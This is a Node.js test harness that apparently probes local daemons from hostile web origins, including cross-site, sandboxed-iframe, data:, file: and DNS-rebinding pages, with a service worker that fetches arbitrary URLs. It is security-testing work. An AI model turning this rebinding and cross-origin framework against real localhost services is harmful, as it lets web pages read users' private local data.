// Pages that try to get into each daemon, from wherever a page can come, with whatever it can fire.
//
// Task: `daemons`: [{name, port, token, pages: [which of the pages below]}], `listed`: an origin that
// the daemons let in. Says `{daemon: {"page weapon": what could be read}}`.

import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { connect, createServer as createDoor } from "node:net";
import { tmpdir } from "node:os";
import { browse, task } from "./browser.mjs";
import { fire } from "./weapons.mjs";

const PAGE = "<!doctype html><title>a page</title><body>";
const SERVICE_WORKER = `
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("message", ({ data: { url, options }, ports: [port] }) =>
    fetch(url, options).then((response) => response.text()).then((text) => port.postMessage(text), () => port.postMessage(null)));
`;

const { daemons, listed } = task();

// The strangers' own web server.
const stranger = createServer((request, response) => {
  const { pathname, searchParams } = new URL(request.url, "http://stranger.example");
  response.setHeader("connection", "close");
  if (pathname === "/redirect") return response.writeHead(307, { location: searchParams.get("to") }).end();
  const script = pathname === "/worker.js";
  response.setHeader("content-type", script ? "text/javascript" : "text/html").end(script ? SERVICE_WORKER : PAGE);
});
const port = (server) => new Promise((ready) => server.listen(0, "127.0.0.1", () => ready(server.address().port)));
const strangers = await port(stranger);

// A name whose address changes under the page: first it leads to the strangers, then to the daemon.
for (const daemon of daemons) {
  const door = createDoor((socket) => {
    if (!daemon.rebound) return stranger.emit("connection", socket);
    const within = connect(daemon.port, "127.0.0.1");
    socket.pipe(within).pipe(socket);
    socket.on("error", () => within.destroy());
    within.on("error", () => socket.destroy());
  });
  daemon.rebind = `rebind-${daemon.name}.example`;
  daemon.door = await port(door);
}
const file = `${tmpdir()}/page.html`;
writeFileSync(file, PAGE);

// Each page: where it is, and which of its frames attacks.
const pages = ({ rebind, port }) => ({
  "cross-site": ["http://stranger.example/"],
  "other-port": [`http://127.0.0.1:${strangers}/`],
  localhost: [`http://localhost:${strangers}/`],
  sandboxed: ["http://stranger.example/", { sandbox: "allow-scripts allow-forms", srcdoc: PAGE }],
  data: ["http://stranger.example/", { src: `data:text/html,${PAGE}` }],
  file: [`file://${file}`],
  rebound: [`http://${rebind}:${port}/`],
  listed: [listed],
});

async function attack(browser, daemon) {
  const read = {};
  const all = pages(daemon);
  for (const name of daemon.pages) {
    const [address, frame] = all[name];
    daemon.rebound = false;
    const page = await browser.newPage();
    await page.goto(address);
    const attacker = frame ? await framed(page, frame) : page.mainFrame();
    daemon.rebound = true;
    const base = name === "rebound" ? `http://${daemon.rebind}:${daemon.port}` : `http://127.0.0.1:${daemon.port}`;
    const elsewhere = `http://127.0.0.1:${strangers}`;
    for (const token of [null, daemon.token]) {
      const prefix = token ? `${name}+token` : name;
      const fired = await attacker.evaluate(fire, { base, token, prefix, elsewhere });
      for (const [weapon, text] of Object.entries(fired)) read[`${prefix} ${weapon}`] = text;
    }
    await page.close();
  }
  return read;
}

async function framed(page, attributes) {
  const handle = await page.evaluateHandle((attributes) => new Promise((loaded) => {
    const frame = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onload = () => loaded(frame);
    document.body.append(frame);
  }), attributes);
  return handle.contentFrame();
}

const names = { [new URL(listed).hostname]: `127.0.0.1:${strangers}`, "stranger.example": `127.0.0.1:${strangers}` };
for (const daemon of daemons) names[daemon.rebind] = `127.0.0.1:${daemon.door}`;
await browse(async (browser) => {
  const read = await Promise.all(daemons.map((daemon) => attack(browser, daemon)));
  return Object.fromEntries(daemons.map((daemon, at) => [daemon.name, read[at]]));
}, { names });
process.exit();
